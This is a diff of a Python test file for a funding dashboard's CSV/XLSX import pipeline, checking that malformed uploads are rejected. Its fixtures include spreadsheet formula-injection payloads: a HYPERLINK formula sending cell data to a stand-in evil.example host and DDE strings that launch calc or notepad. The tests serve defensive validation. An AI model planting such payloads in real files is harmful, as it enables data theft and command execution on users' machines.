@@ -35,7 +35,7 @@ from openpyxl import Workbook, load_workbook
 from dashboard import export
 from dashboard.core import store as state
 from dashboard.core.auth import EDITOR, User
-from dashboard.funding import imports as projects_import
+from dashboard.funding.summary import imports as projects_import
 from etl.build import REPO
 from etl.sources import eu_cli, eu_parse
 
@@ -47,8 +47,8 @@ COLUMNS = FORMATS["template"]["columns"]  # the template's header, as the app of
 KNOWN_HEADERS = {eu_parse.norm(alias) for spec in FORMATS["format"].values() for aliases in spec["fields"].values()
                  for alias in aliases}  # fmt: skip
 FIELDS = {name for spec in FORMATS["format"].values() for name in spec["fields"]}
-REASONS = {"missing_code", "missing_name", "unparseable_amount", "unparseable_date", "end_before_start",
-           "unknown_municipality", "duplicate_code"}  # fmt: skip
+REASONS = {"missing_code", "missing_name", "unparseable_amount", "negative_amount", "unparseable_date",
+           "end_before_start", "unknown_municipality", "duplicate_code", "control_character", "no_rows"}  # fmt: skip
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
             "=1+1", "=cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
@@ -305,13 +305,14 @@ BAD_ROW_2 = {"hankekoodi": "FUZZ2", "hankkeen_nimi": "B", "kunnat": "Tuntematon 
 APP_CASES = {
     "wrong_types.csv": to_csv_bytes([dict.fromkeys(COLUMNS, "") | BAD_ROW_1, dict.fromkeys(COLUMNS, "") | BAD_ROW_2]),
     "wrong_columns.xlsx": to_xlsx_bytes(["Nimi", "Summa", "Kunta"], [["=1+1", 5, "Karstula"]]),
-    "utf16.csv": "hankekoodi,hankkeen_nimi,kunnat\nFUZZ1,Nimi,Karstula\n".encode("utf-16"),
+    # UTF-16 with a byte-order mark is read (tests/unit/test_etl_guards.py); without one it is refused by name.
+    "utf16.csv": "hankekoodi,hankkeen_nimi,kunnat\nFUZZ1,Nimi,Karstula\n".encode("utf-16-le"),
     "empty.csv": b"",
 }
 
 
 def test_bad_uploads_through_the_app_write_nothing(env: Path) -> None:
-    """dashboard.funding.imports → `python -m etl.sources.eu_cli` subprocesses, as the editor page runs it."""
+    """dashboard.funding.summary.imports → `python -m etl.sources.eu_cli` subprocesses, as the editor page runs it."""
     before = writes(env)
     for name, data in APP_CASES.items():
         result = projects_import.import_file(EDITOR_USER, data, name)
